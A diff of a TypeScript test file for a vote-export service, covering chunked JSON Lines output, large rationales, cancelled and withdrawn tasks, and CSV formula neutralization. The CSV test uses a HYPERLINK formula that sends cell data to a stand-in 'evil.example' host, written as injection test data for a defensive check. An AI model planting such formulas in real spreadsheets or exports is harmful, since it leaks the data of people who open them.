@@ -3,12 +3,9 @@ import { assert, it } from "@effect/vitest"
 import { Effect, Stream } from "effect"
 import { parse } from "csv-parse/sync"
 import type { VoteRow } from "../../../src/domain/VoteRow.ts"
-import * as SpreadsheetCell from "../../../src/io/SpreadsheetCell.ts"
 import * as VotesApi from "../../../src/service/http/VotesApi.ts"
 import { Desk } from "../../../src/service/store/Desk.ts"
-import { TaskStore } from "../../../src/service/store/TaskStore.ts"
-import { VoteQueue } from "../../../src/service/store/VoteQueue.ts"
-import { create, experts, judge, next, prompts, store, voteFor } from "./support.ts"
+import { create, crew, judge, next, prompts, store, voteFor } from "./support.ts"
 import { testOver } from "../../support/effectTest.ts"
 import * as Logs from "../../support/logs.ts"
 
@@ -26,21 +23,14 @@ const rowsOf = (chunks: ReadonlyArray<Uint8Array>) =>
     .map((line) => JSON.parse(line) as VoteRow)
 
 test("comes in chunks of some 64 kB, or of one record", function* () {
-  const people = yield* experts
+  const { ann, bob } = yield* crew("ann", "bob")
   const long = "x".repeat(100_000)
-  yield* create([[long, "a", "b"]], { votes: 4 })
-  for (const person of people) yield* judge(person, "a")
-  yield* create(prompts(150), { votes: 2 })
-  const [ann = "", bob = ""] = people
-  for (let i = 0; i < 300; i++) yield* judge(i % 2 === 0 ? ann : bob, "b")
+  yield* create([[long, "a", "b"], ...prompts(150)], { votes: 2 })
+  for (const person of [ann, bob]) for (let i = 0; i < 151; i++) yield* judge(person, "a")
   const chunks = yield* chunksOf()
-  const rows = rowsOf(chunks)
   assert.deepStrictEqual(
-    rows.map(({ expert, prompt }) => [prompt, expert]),
-    [
-      ...people.map((person) => [long, person]),
-      ...Array.from({ length: 300 }, (_, i) => [`p${i >> 1}`, i % 2 === 0 ? ann : bob]),
-    ],
+    rowsOf(chunks).map(({ expert, prompt }) => [prompt, expert]),
+    [long, ...prompts(150).map(([prompt]) => prompt)].flatMap((prompt) => [ann, bob].map((person) => [prompt, person])),
   )
   for (const chunk of chunks) assert.isBelow(chunk.length, 64 * 1024 + long.length + 1_000)
   // Nor a chunk for each record.
@@ -48,67 +38,54 @@ test("comes in chunks of some 64 kB, or of one record", function* () {
 })
 
 test("has all votes, where those of few items are large", function* () {
-  const [ann = "", bob = ""] = yield* experts
+  const { ann, bob, queue } = yield* crew("ann", "bob")
   yield* create(prompts(3), { votes: 2 })
-  const queue = yield* VoteQueue
   const rationale = "y".repeat(1_500_000)
-  for (let i = 0; i < 3; i++) {
-    for (const person of [ann, bob]) {
-      const item = yield* next(person)
-      yield* queue.vote(person, item.item_id, voteFor(item, "a", rationale))
-    }
+  for (let i = 0; i < 6; i++) {
+    const item = yield* next(i < 3 ? ann : bob)
+    yield* queue.vote(i < 3 ? ann : bob, item.item_id, voteFor(item, "a", rationale))
   }
-  const seen = rowsOf(yield* chunksOf()).map((row) => [row.prompt, row.expert, row.rationale?.length])
+  const rows = rowsOf(yield* chunksOf())
   assert.deepStrictEqual(
-    seen,
-    Array.from({ length: 6 }, (_, i) => [`p${i >> 1}`, i % 2 === 0 ? ann : bob, rationale.length]),
+    rows.map(({ expert, prompt }) => [prompt, expert]),
+    prompts(3).flatMap(([prompt]) => [ann, bob].map((person) => [prompt, person])),
   )
+  assert.isTrue(rows.every((row) => row.rationale === rationale))
   assert.lengthOf(rowsOf(yield* chunksOf({ expert: bob })), 3)
 })
 
-test("has no formulas in CSV, which can be undone; JSON Lines and raw CSV have the texts as they are", function* () {
-  const { exportVotes } = yield* Desk
-  const [ann = ""] = yield* experts
-  const texts = ["=1+1", "+1", "-2", "@SUM(1)", "\t=1", "\r=1", "'=1", "'tis", "a=b"]
+test("has no formulas in CSV; JSON Lines and raw CSV have the texts as they are", function* () {
+  const { ann, desk, queue } = yield* crew("ann")
   const link = '=HYPERLINK("http://evil.example/?x="&B1,"click")'
-  yield* create(texts.map((text) => [text, link, "b"] as const))
-  const queue = yield* VoteQueue
-  for (const _ of texts) {
-    const item = yield* next(ann)
-    yield* queue.vote(ann, item.item_id, voteFor(item, link, link))
-  }
-  const cellsOf = Effect.fnUntraced(function* (raw: boolean) {
-    const text = yield* Stream.mkString(Stream.decodeText(exportVotes("csv", {}, raw)))
-    const [head = [], ...records] = parse(text, { relax_column_count: false })
-    const at = (name: string) => records.map((record) => record[head.indexOf(name)])
-    return { prompts: at("prompt"), completions: at("completions"), rationales: at("rationale") }
+  yield* create([["'=1", link, "b"]])
+  const item = yield* next(ann)
+  yield* queue.vote(ann, item.item_id, voteFor(item, link, link))
+  const recordOf = Effect.fnUntraced(function* (raw: boolean) {
+    const text = yield* Stream.mkString(Stream.decodeText(desk.exportVotes("csv", {}, raw)))
+    const [record] = parse(text, { columns: true }) as ReadonlyArray<Record<string, string>>
+    return record
   })
-  const safe = yield* cellsOf(false)
-  assert.deepStrictEqual(safe.prompts, texts.map(SpreadsheetCell.neutralize))
-  assert.notDeepEqual(safe.prompts, texts)
-  assert.deepStrictEqual(
-    safe.rationales,
-    texts.map(() => `'${link}`),
-  )
-  const raw = yield* cellsOf(true)
-  assert.deepStrictEqual(raw.prompts, texts)
   // A list is JSON.
-  assert.deepStrictEqual(safe.completions, raw.completions)
-  assert.deepStrictEqual(
-    rowsOf(yield* chunksOf()).map(({ prompt }) => prompt),
-    texts,
-  )
+  const completions = JSON.stringify([link, "b"])
+  assert.deepInclude(yield* recordOf(false), { prompt: "''=1", rationale: `'${link}`, completions })
+  assert.deepInclude(yield* recordOf(true), { prompt: "'=1", rationale: link, completions })
+  assert.deepInclude(rowsOf(yield* chunksOf())[0], { prompt: "'=1", rationale: link })
 })
 
-test("leaves cancelled tasks out", function* () {
-  const [ann = ""] = yield* experts
+test("has a lead's decision on a prompt without votes; neither withdrawn prompts nor cancelled tasks", function* () {
+  const { ann, desk, taskStore } = yield* crew("ann")
   const cancelled = yield* create([["sky", "blue", "green"]], { votes: 2 })
-  yield* create([["grass", "green", "blue"]], { votes: 2 })
-  yield* judge(ann, "blue", "green")
-  yield* (yield* TaskStore).cancel(cancelled)
+  const taskId = yield* create([["grass", "green", "blue"], ["snow", "white", "black"], ...prompts(1)], { votes: 2 })
+  yield* judge(ann, "blue", "green", "white")
+  yield* taskStore.cancel(cancelled)
+  yield* desk.withdrawPrompt(taskId, 1, "", "Lea")
+  yield* desk.decide({ taskId, promptIndex: 2, choice: 0, rationale: "", operator: "Lea" })
   assert.deepStrictEqual(
-    rowsOf(yield* chunksOf()).map(({ prompt }) => prompt),
-    ["grass"],
+    rowsOf(yield* chunksOf()).map(({ expert, prompt }) => [prompt, expert]),
+    [
+      ["grass", ann],
+      ["p0", "Lea"],
+    ],
   )
 })
 
